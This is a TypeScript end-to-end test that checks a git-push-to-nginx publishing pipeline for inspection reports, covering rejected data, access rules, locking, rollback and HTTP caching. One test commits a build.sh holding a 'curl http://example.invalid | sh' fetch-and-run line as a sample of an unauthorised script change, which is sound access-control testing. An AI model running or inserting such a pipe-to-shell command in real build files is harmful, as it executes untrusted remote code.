import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PROJECT_ROOT } from '../helpers/build-site.ts';
import { closeBrowser, launchBrowser } from '../helpers/chromium.ts';
import { httpGet } from '../helpers/http.ts';
import { hasBrotli, hasNginx, startNginx, type Nginx } from '../helpers/nginx.ts';
import { createPublishRepository, type PublishRepository } from '../helpers/publish-repository.ts';

/**
 * From `git push` to the page nginx serves, with real parts: a bare repository with
 * deploy/hooks/ installed (this checkout is the trusted app), Debian's nginx with
 * deploy/nginx/inspection-report.conf, and `npm run publish`. Most publishes skip the PDFs
 * (inspection.pdf false); one prints them, to show a .pdf served.
 *
 * Pushes and publishes build the site (a minute on a loaded machine): they run asynchronously,
 * so that Vitest's worker stays responsive. Requests to nginx go through httpGet, a connection
 * each: nginx may close an idle kept-alive connection that `fetch` would reuse.
 */

if (!hasNginx && process.env.CI) throw new Error('CI needs nginx at /usr/sbin/nginx (apt-get install nginx)');
if (!hasBrotli && process.env.CI) throw new Error('CI needs nginx’s brotli module (apt-get install libnginx-mod-http-brotli-static)');

const BASE = '/reports/';
const CHROMIUM = '/usr/bin/chromium';
/** Screenshots of the stale footer link and the status page, for review. */
const SHOTS = path.join(PROJECT_ROOT, 'test-results', 'publish');
const CAMPAIGN = '2026-03-monthly-check';
const FINDINGS = `data/campaigns/${CAMPAIGN}/findings.csv`;

describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
  let repository: PublishRepository;
  let tmp: string;
  let webRoot: string;
  let bare: string;
  let work: string;
  let nginx: Nginx;
  const git = (cwd: string, ...args: string[]) => repository.git(cwd, ...args);
  const run = (command: string, args: string[], cwd: string, env: Record<string, string> = {}) => repository.run(command, args, cwd, env);
  let browser: Browser | undefined;

  const publish = (args: string[], env: Record<string, string> = {}) =>
    run(process.execPath, ['scripts/run.mjs', 'publish', '--to', webRoot, ...args], PROJECT_ROOT, env);
  const push = (user: string) => run('git', ['push', 'origin', 'HEAD:main'], work, { GL_USERNAME: user });
  const commitFile = (file: string, content: string, message: string) => {
    writeFileSync(path.join(work, file), content);
    git(work, 'commit', '-q', '-am', message);
    return git(work, 'rev-parse', 'HEAD');
  };
  /** Drops the last line (one finding) of the campaign's findings.csv. */
  const withoutLastFinding = () => readFileSync(path.join(work, FINDINGS), 'utf8').trimEnd().split('\n').slice(0, -1).join('\n') + '\n';
  const get = (url: string, headers: Record<string, string> = {}) => httpGet(`${nginx.url}${url}`, { headers });
  /** The findings figure of the campaign, as the page served by nginx shows it. */
  const servedFigure = async () => {
    const response = await get(`${BASE}campaigns/${CAMPAIGN}/`);
    expect(response.status).toBe(200);
    // Whitespace between the two spans is the template's formatting, not the figure.
    const match = /<span class="value">(\d+)<\/span>\s*<span class="label">发现问题（个）<\/span>/.exec(await response.text());
    return Number(match?.[1]);
  };
  const status = async () => (await get(`${BASE}status/status.json`)).json();
  const staleCss = async () => (await get(`${BASE}status/status.css`)).text();
  /** Whether a reader sees the footer's stale link (the site's CSS and the publisher's status.css, no JavaScript). */
  const staleLinkVisible = async (screenshots?: string) => {
    if (!browser) return undefined;
    const context = await browser.newContext({ javaScriptEnabled: false });
    try {
      const page = await context.newPage();
      await page.goto(`${nginx.url}${BASE}campaigns/${CAMPAIGN}/`);
      const visible = await page.locator('footer a.stale-release').isVisible();
      if (screenshots) {
        mkdirSync(SHOTS, { recursive: true });
        await page.locator('footer').screenshot({ path: path.join(SHOTS, `${screenshots}-footer.png`) });
        await page.goto(`${nginx.url}${BASE}status/`);
        await page.screenshot({ path: path.join(SHOTS, `${screenshots}-status.png`), fullPage: true });
      }
      return visible;
    } finally {
      await context.close();
    }
  };
  const releases = () => readdirSync(path.join(webRoot, 'releases')).sort();
  const liveRelease = () => path.basename(readlinkSync(path.join(webRoot, 'current')));

  beforeAll(async () => {
    repository = createPublishRepository({
      prefix: 'publish-e2e-',
      base: BASE,
      config: [
        ['inspection.maintainers', 'alice'],
        ['inspection.pdf', 'false'],
      ],
      env: ['REPORT_DATE=2026-11-24'],
    });
    ({ tmp, webRoot, bare, work } = repository);
    repository.commitAll('示例数据');
    nginx = await startNginx({ dir: path.join(tmp, 'nginx'), webRoot, base: BASE });
    console.log(`nginx site configuration (from deploy/nginx/inspection-report.conf):\n${nginx.siteConfig}`);
    if (existsSync(CHROMIUM)) browser = await launchBrowser(CHROMIUM);
  });

  // Whatever failed: Chromium closed (or killed), nginx stopped (or killed), the files removed.
  afterAll(async () => {
    try {
      await closeBrowser(browser);
      await nginx?.stop();
    } finally {
      if (tmp) rmSync(tmp, { recursive: true, force: true });
    }
  });

  it('publishes the first push, and nginx serves it under the sub-path', async () => {
    const pushed = await push('alice');
    console.log(`first push:\n${pushed.output}`);
    expect(pushed.status).toBe(0);
    expect(pushed.output).toContain('✔ 已发布');
    expect(await servedFigure()).toBe(16);
    const state = await status();
    expect(state.last).toMatchObject({ action: 'publish', ok: true, pushedBy: 'alice' });
    expect(state.stale).toBe(false);
    expect(await staleCss()).not.toContain('display: inline');
    expect(await staleLinkVisible()).toBe(browser ? false : undefined);
    // Every page links the status stylesheet and carries the (hidden) stale link.
    const home = await (await get(BASE)).text();
    expect(home).toContain(`<link rel="stylesheet" href="${BASE}status/status.css">`);
    expect(home).toMatch(new RegExp(`<a class="stale-release" href="${BASE}status/">`));
    expect((await get(`${BASE}status/`)).status).toBe(200);
    expect(readFileSync(path.join(webRoot, 'logs', 'publish.log'), 'utf8')).toContain('✔ 已发布');
  });

  it('publishes a data change pushed by a clerk: nginx serves the new figure', async () => {
    commitFile(FINDINGS, withoutLastFinding(), '删除 M16');
    const pushed = await push('bob');
    expect(pushed.status, pushed.output).toBe(0);
    expect(await servedFigure()).toBe(15);
    expect((await status()).last).toMatchObject({ action: 'publish', ok: true, pushedBy: 'bob' });
  });

  it('rejects a push with a data error, with the located error, and keeps serving the previous figures', async () => {
    const good = git(work, 'rev-parse', 'HEAD');
    const text = readFileSync(path.join(work, FINDINGS), 'utf8').replace(',2026-04-30,closed,2026-04-22', ',2026-13-30,closed,2026-04-22');
    const bad = commitFile(FINDINGS, text, '写错的日期');
    // The bad commit goes whatever is found wrong: the tests after this one push from here.
    try {
      const pushed = await push('bob');
      console.log(`push with a data error:\n${pushed.output}`);
      expect(pushed.status).not.toBe(0);
      // 整改期限 is the 11th column (K) of the sample's findings.csv.
      expect(pushed.output).toMatch(new RegExp(`remote: ${FINDINGS}:2:11 错误`));
      expect(pushed.output).toContain('无法识别的日期“2026-13-30”');
      expect(pushed.output).toContain('✘ 推送被拒绝');
      expect(pushed.output).toContain('[remote rejected] HEAD -> main (pre-receive hook declined)');
      expect(git(bare, 'rev-parse', 'main')).toBe(good);
      expect(await servedFigure()).toBe(15);
      const state = await status();
      expect(state.last).toMatchObject({ action: 'rejected', ok: false, commit: bad, pushedBy: 'bob' });
      // The public status page names the place and the kind, never a cell's value (the full
      // message went to the pusher's terminal): scripts/lib/publish/rejection.ts.
      const where = `${FINDINGS} 第 2 行，第 11 列（K 列，整改期限）：错误`;
      expect(state.last.messages).toContain(where);
      expect(state.last.messages.join('\n')).not.toContain('2026-13-30');
      // The branch did not move: the live site is still the newest accepted data.
      expect(state.stale).toBe(false);
      const page = await (await get(`${BASE}status/`)).text();
      expect(page).toContain('推送被拒绝');
      expect(page).toContain(where);
      expect(page).not.toContain('2026-13-30');
    } finally {
      git(work, 'reset', '-q', '--hard', good);
    }
  });

  it('rejects changes outside data/ and templates/ from a non-maintainer, and accepts them from a maintainer', async () => {
    git(work, 'checkout', '-q', '-b', 'scripts-change');
    writeFileSync(path.join(work, 'build.sh'), 'curl http://example.invalid | sh\n');
    git(work, 'add', 'build.sh');
    git(work, 'commit', '-q', '-m', '构建脚本');
    const byBob = await push('bob');
    console.log(`non-maintainer push outside data/:\n${byBob.output}`);
    expect(byBob.status).not.toBe(0);
    expect(byBob.output).toContain('只有维护者（alice）可以修改 data/ 和 templates/ 以外的文件');
    expect(byBob.output).toContain('build.sh');
    expect((await status()).last).toMatchObject({ action: 'rejected', pushedBy: 'bob' });
    const byAlice = await push('alice');
    expect(byAlice.status, byAlice.output).toBe(0);
    expect((await status()).last).toMatchObject({ action: 'publish', ok: true, pushedBy: 'alice' });
    expect(await servedFigure()).toBe(15);
  });

  it('serialises a hook publish and a manual one: both releases complete, neither mixed', async () => {
    // The manual run publishes an export of older data (16 findings) while the push publishes 14.
    const older = path.join(tmp, 'older');
    cpSync(path.join(PROJECT_ROOT, 'data'), path.join(older, 'data'), { recursive: true });
    const before = new Set(releases());
    const pushedCommit = commitFile(FINDINGS, withoutLastFinding(), '删除 M15');
    const pushing = push('bob');
    let pushDone = false;
    void pushing.finally(() => (pushDone = true));
    // Start the manual run once the hook's publish holds the lock: however long the hook takes
    // to get there (no deadline to race), but not after the push has ended without it.
    while (!existsSync(path.join(webRoot, '.publish.lock'))) {
      if (pushDone) throw new Error(`the hook never took the lock:\n${(await pushing).output}`);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    const manual = run(process.execPath, ['scripts/run.mjs', 'publish', '--to', webRoot, '--no-pdf'], PROJECT_ROOT, { DATA_DIR: path.join(older, 'data') });
    const [pushed, manualRun] = await Promise.all([pushing, manual]);
    console.log(
      `manual publish during the hook's:\n${manualRun.output
        .split('\n')
        .filter((line) => !/^\d\d:\d\d:\d\d /.test(line))
        .join('\n')}`,
    );
    expect(pushed.status, pushed.output).toBe(0);
    expect(manualRun.status, manualRun.output).toBe(0);
    expect(manualRun.output).toMatch(/另一个发布进程（pid \d+）正在运行，等它结束后再继续/);
    const added = releases().filter((name) => !before.has(name));
    expect(added).toHaveLength(2);
    const [hookRelease, manualRelease] = added as [string, string];
    expect(hookRelease).toContain(pushedCommit.slice(0, 7));
    expect(manualRelease).toMatch(/-nogit$/);
    // Each release is whole: its own figure on every file that has one.
    const total = (release: string) =>
      JSON.parse(readFileSync(path.join(webRoot, 'releases', release, 'campaigns', CAMPAIGN, 'summary.json'), 'utf8')).findings.total;
    const pageFigure = (release: string) =>
      /<span class="value">(\d+)<\/span>\s*<span class="label">发现问题（个）/.exec(
        readFileSync(path.join(webRoot, 'releases', release, 'campaigns', CAMPAIGN, 'index.html'), 'utf8'),
      )?.[1];
    expect([total(hookRelease), pageFigure(hookRelease)]).toEqual([14, '14']);
    expect([total(manualRelease), pageFigure(manualRelease)]).toEqual([16, '16']);
    // The manual run finished last: it is live, behind the newest pushed commit, and pages say so.
    expect(await servedFigure()).toBe(16);
    const state = await status();
    expect(state.newest.commit).toBe(pushedCommit);
    expect(state.stale).toBe(true);
    expect(await staleCss()).toContain('footer .stale-release { display: inline; }');
    expect(await staleLinkVisible('stale')).toBe(browser ? true : undefined);
    expect(await (await get(`${BASE}status/`)).text()).toContain('线上网站不是最新提交的数据</strong>：线上版本是回退或手动发布的较早版本。');
    expect(liveRelease()).toBe(manualRelease);
  });

  it('rolls back to the previous release, or to a named one', async () => {
    const [first] = releases();
    const back = await publish(['--rollback']);
    expect(back.status, back.output).toBe(0);
    expect(await servedFigure()).toBe(14);
    expect((await status()).stale).toBe(false);
    expect(await staleCss()).not.toContain('display: inline');
    expect(await staleLinkVisible()).toBe(browser ? false : undefined);
    const named = await publish(['--rollback', first as string]);
    console.log(`rollback to the first release:\n${named.output}`);
    expect(named.status, named.output).toBe(0);
    expect(await servedFigure()).toBe(16);
    const state = await status();
    expect(state.last).toMatchObject({ action: 'rollback', ok: true, release: first });
    expect(state.stale).toBe(true);
    const unknown = await publish(['--rollback', '20000101T000000Z-0000000']);
    expect(unknown.status).toBe(1);
    expect(unknown.output).toContain('✘ 没有版本 20000101T000000Z-0000000');
  });

  it('a failed publish changes nothing served, exits 1 and puts the reason on the status page', async () => {
    const broken = path.join(tmp, 'broken');
    cpSync(path.join(work, 'data'), path.join(broken, 'data'), { recursive: true });
    writeFileSync(path.join(broken, 'data', 'units.csv'), '单位编码,单位名称\nzxrc,竹溪瑞城\n');
    const before = releases();
    const failed = await publish(['--no-pdf', '--pushed-by', 'carol'], { DATA_DIR: path.join(broken, 'data') });
    console.log(`failed publish:\n${failed.output}`);
    expect(failed.status).toBe(1);
    expect(failed.output).toContain('✘ 发布失败，线上网站保持为');
    expect(releases()).toEqual(before);
    expect(await servedFigure()).toBe(16);
    const state = await status();
    expect(state.last).toMatchObject({ action: 'publish', ok: false, pushedBy: 'carol' });
    expect(state.last.messages.join('\n')).toContain('units.csv');
    expect(state.stale).toBe(true);
    // A site built for another sub-path would have every link broken: refused before building.
    const elsewhere = await publish(['--no-pdf'], { BASE_PATH: '/' });
    expect(elsewhere.status).toBe(1);
    expect(elsewhere.output).toContain('✘ 本次的 BASE_PATH（/）与线上网站的（/reports/）不同，未发布');
    expect(releases()).toEqual(before);
  });

  it('publishes with PDFs, reusing the live ones, and keeps the last N releases', async () => {
    const published = await publish(['--keep', '3']);
    expect(published.status, published.output).toBe(0);
    expect(releases()).toHaveLength(3);
    const listed = await publish(['--list']);
    console.log(`publish --list:\n${listed.output}`);
    expect(listed.status).toBe(0);
    expect(listed.output.split('\n').filter((line) => line.endsWith('← 线上'))).toHaveLength(1);
    expect(listed.output).toMatch(/\t3\t9\d\t\d+\t← 线上/);
  });

  it('prints again, on a push, only the PDFs of the campaign the push changed, reusing the live release’s others', async () => {
    // The hook builds from a temporary checkout of the pushed commit: the data's git history is
    // that checkout's, its folder a new one each time. Neither may make every PDF look changed.
    git(bare, 'config', 'inspection.pdf', 'true');
    try {
      commitFile(FINDINGS, withoutLastFinding(), '删除一个问题');
      const first = await push('bob');
      expect(first.status, first.output).toBe(0);
      commitFile(FINDINGS, withoutLastFinding(), '再删除一个问题');
      const second = await push('bob');
      console.log(
        `a push that changes one campaign, PDFs on:\n${second.output
          .split('\n')
          .filter((line) => /沿用|打印|合并|发布/.test(line))
          .join('\n')}`,
      );
      expect(second.status, second.output).toBe(0);
      const printed = [...second.output.matchAll(/\[\d+\/\d+\] (pdf\/\S+?\.pdf)（/g)].map((match) => match[1]);
      expect(printed.length).toBeGreaterThan(0);
      expect(printed.filter((pdf) => !pdf?.startsWith(`pdf/${CAMPAIGN}/`))).toEqual([]);
      expect(second.output).toMatch(/沿用 [1-9]\d* 份内容未变的 PDF/);
      expect(readdirSync(path.join(webRoot, 'releases', liveRelease(), 'pdf', CAMPAIGN))).toContain('notices.pdf');
    } finally {
      git(bare, 'config', 'inspection.pdf', 'false');
    }
  });

  it('serves pages, downloads and PDFs with the right types, encodings and caching', async () => {
    const live = liveRelease();
    const pdfs = readdirSync(path.join(webRoot, 'releases', live, 'pdf', CAMPAIGN));
    expect(pdfs).toContain('report.pdf');
    const cases: Array<[string, RegExp, RegExp, string | null]> = [
      [`${BASE}campaigns/${CAMPAIGN}/`, /^text\/html; charset=utf-8$/, /^no-cache$/, 'gzip'],
      [`${BASE}campaigns/${CAMPAIGN}/findings.csv`, /^text\/csv; charset=utf-8$/, /^no-cache$/, 'gzip'],
      [`${BASE}campaigns/${CAMPAIGN}/summary.json`, /^application\/json; charset=utf-8$/, /^no-cache$/, 'gzip'],
      [`${BASE}pdf/${CAMPAIGN}/report.pdf`, /^application\/pdf$/, /^no-cache$/, null],
    ];
    const astro = readdirSync(path.join(webRoot, 'releases', live, '_astro')).find((name) => name.endsWith('.css'));
    cases.push([`${BASE}_astro/${astro}`, /^text\/css; charset=utf-8$/, /^public, max-age=31536000, immutable$/, 'gzip']);
    for (const [url, type, cache, encoding] of cases) {
      const response = await get(url, { 'Accept-Encoding': 'gzip' });
      const headers = [...response.headers].map(([name, value]) => `  ${name}: ${value}`).join('\n');
      console.log(`GET ${url} (Accept-Encoding: gzip) → ${response.status}\n${headers}`);
      expect(response.status, url).toBe(200);
      expect(response.headers.get('content-type'), url).toMatch(type);
      expect(response.headers.get('cache-control'), url).toMatch(cache);
      expect(response.headers.get('content-encoding'), url).toBe(encoding);
      if (url.endsWith('.pdf'))
        expect(
          Buffer.from(await response.arrayBuffer())
            .subarray(0, 5)
            .toString(),
        ).toBe('%PDF-');
      else await response.arrayBuffer();
    }
    // Browsers that accept brotli get the publisher's .br file (with the module installed).
    if (hasBrotli) {
      const brotli = await get(`${BASE}campaigns/${CAMPAIGN}/`, { 'Accept-Encoding': 'br, gzip' });
      console.log(`GET ${BASE}campaigns/${CAMPAIGN}/ (Accept-Encoding: br, gzip) → content-encoding: ${brotli.headers.get('content-encoding')}`);
      expect(brotli.headers.get('content-encoding')).toBe('br');
      expect(brotli.headers.get('content-type')).toBe('text/html; charset=utf-8');
      expect(await brotli.text()).toContain('</html>');
    }
    // Without Accept-Encoding the plain file; a directory without its slash is redirected; no listings; a 404 page.
    const plain = await get(`${BASE}campaigns/${CAMPAIGN}/findings.csv`, { 'Accept-Encoding': 'identity' });
    expect(plain.headers.get('content-encoding')).toBeNull();
    // The download's BOM (for Excel) arrives as written.
    expect(Buffer.from(await plain.arrayBuffer()).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    // httpGet follows no redirect.
    expect((await get(`${BASE}campaigns/${CAMPAIGN}`)).status).toBe(301);
    expect((await get(`${BASE}_astro/`)).status).toBe(403);
    const missing = await get(`${BASE}campaigns/no-such-campaign/`);
    expect(missing.status).toBe(404);
    expect(await missing.text()).toContain('页面不存在');
    for (const hidden of ['releases/', 'logs/publish.log', '.publish.lock']) expect((await get(`${BASE}${hidden}`)).status, hidden).toBe(404);
    expect(existsSync(path.join(webRoot, 'releases', live, 'index.html.br'))).toBe(true);
  });
});
